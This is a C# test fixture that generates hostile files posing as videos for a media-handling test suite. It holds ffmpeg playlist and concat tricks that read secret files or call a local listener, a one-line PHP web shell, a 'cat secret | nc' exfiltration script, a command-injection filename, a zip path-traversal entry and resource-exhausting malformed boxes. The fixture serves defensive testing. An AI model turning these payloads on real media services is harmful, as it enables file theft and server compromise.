using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Commerce.Media.Tests.Video.Hostile;

/// <summary>Files that were made to do harm when somebody opens them as a video. <c>{port}</c> and <c>{secret}</c> stand for a listener and a file that must not be touched.</summary>
internal static class HostileFiles
{
    private static readonly (string Name, string Text)[] Texts =
    [
        ("hls-local.mp4", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-network.mp4", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://127.0.0.1:{port}/a.ts\n#EXT-X-ENDLIST\n"),
        ("hls-concat.mp4", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://127.0.0.1:{port}/h|file://{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-subfile.mp4", "#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,100,,:{secret}\n#EXT-X-ENDLIST\n"),
        ("hls-key.mp4", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"file://{secret}\"\n#EXTINF:1,\nhttp://127.0.0.1:{port}/k\n#EXT-X-ENDLIST\n"),
        ("hls-map.mp4", "#EXTM3U\n#EXT-X-MAP:URI=\"http://127.0.0.1:{port}/init\"\n#EXTINF:1,\na\n"),
        ("hls-master.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://127.0.0.1:{port}/v.m3u8\n"),
        ("hls-behind-byte-order-mark.mp4", "\uFEFF#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:{port}/\n"),
        ("concat.mp4", "ffconcat version 1.0\nfile '{secret}'\n"),
        ("concat-network.mp4", "ffconcat version 1.0\nfile 'http://127.0.0.1:{port}/x.mp4'\n"),
        ("concat-options.mp4", "ffconcat version 1.0\nfile '{secret}'\noption protocol_whitelist file,http,tcp\n"),
        ("dash.mp4", "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><Period><BaseURL>http://127.0.0.1:{port}/</BaseURL></Period></MPD>"),
        ("smil.mp4", "<smil><body><video src=\"http://127.0.0.1:{port}/\"/></body></smil>"),
        ("xspf.mp4", "<?xml version=\"1.0\"?><playlist xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>file://{secret}</location></track></trackList></playlist>"),
        ("pls.mp4", "[playlist]\nFile1=http://127.0.0.1:{port}/\nNumberOfEntries=1\n"),
        ("asx.mp4", "<asx version=\"3.0\"><entry><ref href=\"http://127.0.0.1:{port}/\"/></entry></asx>"),
        ("sdp.mp4", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"),
        ("rtsp.mp4", "RTSPtext rtsp://127.0.0.1:{port}/x\n"),
        ("quicktime-redirect.mov", "rtsptextRTSP://127.0.0.1:{port}/\n"),
        ("ass-with-font.mp4", "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {secret}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,{\\fn{secret}}x\n"),
        ("microdvd.mp4", "{1}{25}{f:{secret}}words\n"),
        ("vobsub.mp4", "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n"),
        ("srt.mp4", "1\n00:00:01,000 --> 00:00:02,000\n<img src=\"http://127.0.0.1:{port}/\">\n"),
        ("svg.mp4", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://127.0.0.1:{port}/\"/><script>1</script></svg>"),
        ("html.mp4", "<!doctype html><script src=\"http://127.0.0.1:{port}/x.js\"></script>"),
        ("php.mp4", "<?php system($_GET['c']); ?>"),
        ("shell.mp4", "#!/bin/sh\ncat {secret} | nc 127.0.0.1 {port}\n"),
        ("concat-address.mp4", "concat:{secret}|{secret}"),
        ("graph.mp4", "movie={secret},scale=100:100"),
        ("avisynth.mp4", "AviSource(\"{secret}\")\n"),
        ("image-sequence.mp4", "/proc/self/fd/%03d\n"),
        ("lrc.mp4", "[00:01.00]words\n[re:{secret}]\n"),
    ];

    /// <summary>All of them, from a whole video and the words above.</summary>
    internal static IEnumerable<(string Name, byte[] Content)> All(byte[] whole, byte[] webm, int port, string secret)
    {
        foreach (var (name, text) in Texts)
        {
            yield return (name, Encoding.UTF8.GetBytes(text.Replace("{port}", $"{port}", StringComparison.Ordinal).Replace("{secret}", secret, StringComparison.Ordinal)));
        }
        foreach (var file in Broken(whole, webm).Concat(Disguised(whole)).Concat(Lying(whole, webm, port, secret)))
        {
            yield return file;
        }
    }

    private static IEnumerable<(string, byte[])> Broken(byte[] whole, byte[] webm)
    {
        yield return ("empty.mp4", []);
        yield return ("one-byte.mp4", [0]);
        foreach (var share in (int[])[1, 5, 20, 40, 60, 80, 95, 99])
        {
            yield return ($"cut-at-{share}.mp4", whole[..(whole.Length * share / 100)]);
            yield return ($"cut-at-{share}.webm", webm[..(webm.Length * share / 100)]);
        }
        yield return ("noise.mp4", Noise(20_000));
        yield return ("noise-behind-header.mp4", [.. whole[..32], .. Noise(20_000)]);
        yield return ("noise-behind-header.webm", [.. webm[..64], .. Noise(20_000)]);
        yield return ("zeros.mp4", new byte[100_000]);
        for (var seed = 1; seed <= 6; seed++)
        {
            yield return ($"bits-turned-{seed}.mp4", Turned(whole, seed));
            yield return ($"bits-turned-{seed}.webm", Turned(webm, seed));
        }
    }

    private static IEnumerable<(string, byte[])> Disguised(byte[] whole)
    {
        yield return ("gif-script.mp4", [.. "GIF89a/*"u8, .. Noise(300), .. "*/=1;alert(1)"u8]);
        yield return ("html-before-video.mp4", [.. "<html><script>1</script>"u8, .. whole]);
        yield return ("pdf.mp4", [.. "%PDF-1.4\n"u8, .. Noise(2000)]);
        yield return ("elf.mp4", [0x7F, .. "ELF"u8, .. Noise(2000)]);
        yield return ("exe.mp4", [.. "MZ"u8, .. Noise(2000)]);
        yield return ("jpeg.mp4", [0xFF, 0xD8, 0xFF, 0xE0, .. Noise(2000)]);
        yield return ("avi.mp4", [.. "RIFF"u8, 0, 1, 0, 0, .. "AVI LIST"u8, .. Noise(2000)]);
        yield return ("gab2.mp4", [.. "RIFF"u8, 0, 1, 0, 0, .. "AVI LIST"u8, .. "GAB2\0\u0002\0#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd"u8]);
        yield return ("flv.mp4", [.. "FLV\u0001\u0005"u8, .. Noise(2000)]);
        yield return ("mpeg-ts.mp4", [0x47, 0x40, .. Noise(2000)]);
        yield return ("zip.mp4", Zip(whole));
        yield return ("gzip.mp4", [0x1F, 0x8B, 8, 0, .. Noise(2000)]);
        yield return ("picture.heic", [0, 0, 0, 24, .. "ftypheic\0\0\0\0mif1heic"u8, .. Noise(2000)]);
        yield return ("; rm -rf $(echo x) `id` |.mp4", Noise(2000));
        yield return ("-i.mp4", "-f lavfi"u8.ToArray());
        yield return ("http:127.0.0.1.mp4", "http://127.0.0.1/"u8.ToArray());
        yield return ("%d%s%n.mp4", Noise(200));
    }

    private static IEnumerable<(string, byte[])> Lying(byte[] whole, byte[] webm, int port, string secret)
    {
        yield return ("length-of-years.mp4", Durations(whole, uint.MaxValue));
        yield return ("length-of-nothing.mp4", Durations(whole, 0));
        yield return ("huge-picture.mp4", Sized(whole, 60_000, 60_000));
        yield return ("wide-picture.mp4", Sized(whole, 65_535, 2));
        yield return ("endless-box.mp4", [.. whole[..32], 0, 0, 0, 1, .. "mdat"u8, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
        yield return ("box-of-four-bytes.mp4", [.. whole[..32], 0, 0, 0, 4, .. "moov"u8, .. whole[32..]]);
        yield return ("thousand-boxes.mp4", [.. whole[..32], .. Enumerable.Repeat((byte[])[0, 0, 0, 8, .. "free"u8], 20_000).SelectMany(box => box)]);
        yield return ("nested-boxes.mp4", Nested(whole));
        yield return ("many-samples.mp4", Counts(whole, "stts"));
        yield return ("many-sizes.mp4", Counts(whole, "stsz"));
        yield return ("many-chunks.mp4", Counts(whole, "stco"));
        yield return ("elsewhere-file.mov", Elsewhere(whole, "alis", secret));
        yield return ("elsewhere-network.mov", Elsewhere(whole, "url ", $"http://127.0.0.1:{port}/x.mov"));
        yield return ("other-codec.mp4", Renamed(whole, "avc1", "tscc"));
        yield return ("no-track.mp4", Renamed(whole, "trak", "free"));
        yield return ("no-samples.mp4", Renamed(whole, "stbl", "free"));
        yield return ("no-description.mp4", Renamed(whole, "stsd", "free"));
        yield return ("segments-only.webm", [.. webm[..4], 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, .. Noise(500)]);
    }

    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        new Random(7).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Turned(byte[] whole, int seed)
    {
        var (bytes, random) = (whole.ToArray(), new Random(seed));
        for (var at = 0; at < 60; at++)
        {
            bytes[random.Next(40, bytes.Length)] ^= (byte)(1 << random.Next(8));
        }
        return bytes;
    }

    private static byte[] Zip(byte[] whole)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("../../video.mp4").Open();
            entry.Write(whole);
        }
        return memory.ToArray();
    }

    private static byte[] Changed(byte[] whole, string box, Action<byte[], int> change)
    {
        var bytes = whole.ToArray();
        var name = Encoding.ASCII.GetBytes(box);
        for (var at = bytes.AsSpan().IndexOf(name); at >= 0;)
        {
            change(bytes, at);
            var next = bytes.AsSpan(at + 4).IndexOf(name);
            at = next < 0 ? -1 : at + 4 + next;
        }
        return bytes;
    }

    private static byte[] Durations(byte[] whole, uint length) => Changed(Changed(Changed(Changed(whole,
        "mvhd", (bytes, at) => BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(at + 20), length)),
        "mdhd", (bytes, at) => BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(at + 20), length)),
        "tkhd", (bytes, at) => BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(at + 24), length)),
        "stts", (bytes, at) => BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(at + 16), length / 2));

    private static byte[] Sized(byte[] whole, int width, int height) => Changed(Changed(whole, "avc1", (bytes, at) =>
    {
        BinaryPrimitives.WriteUInt16BigEndian(bytes.AsSpan(at + 28), (ushort)width);
        BinaryPrimitives.WriteUInt16BigEndian(bytes.AsSpan(at + 30), (ushort)height);
    }), "avcC", (bytes, at) => bytes.AsSpan(at + 4, 24).Clear());

    private static byte[] Counts(byte[] whole, string table) => Changed(whole, table, (bytes, at) => BinaryPrimitives.WriteUInt32BigEndian(bytes.AsSpan(at + (table == "stsz" ? 12 : 8)), 0x7FFFFFFF));

    private static byte[] Renamed(byte[] whole, string from, string to) => Changed(whole, from, (bytes, at) => Encoding.ASCII.GetBytes(to).CopyTo(bytes, at));

    /// <summary>Says that the frames lie in another file or at an address.</summary>
    private static byte[] Elsewhere(byte[] whole, string kind, string target)
    {
        var entry = new byte[12 + target.Length + 1];
        BinaryPrimitives.WriteInt32BigEndian(entry, entry.Length);
        Encoding.ASCII.GetBytes(kind).CopyTo(entry, 4);
        Encoding.ASCII.GetBytes(target).CopyTo(entry, 12);
        // The space of the index is kept: the entry takes the place of what stands behind the reference's own header.
        return Changed(whole, "dref", (bytes, at) => entry.AsSpan(0, Math.Min(entry.Length, bytes.Length - at - 12)).CopyTo(bytes.AsSpan(at + 12)));
    }

    private static byte[] Nested(byte[] whole)
    {
        var boxes = new byte[8 * 5000];
        for (var at = 0; at < boxes.Length; at += 8)
        {
            BinaryPrimitives.WriteInt32BigEndian(boxes.AsSpan(at), boxes.Length - at);
            Encoding.ASCII.GetBytes("moov").CopyTo(boxes, at + 4);
        }
        return [.. whole[..32], .. boxes, 0, 0, 0, 8, .. "mdat"u8];
    }
}
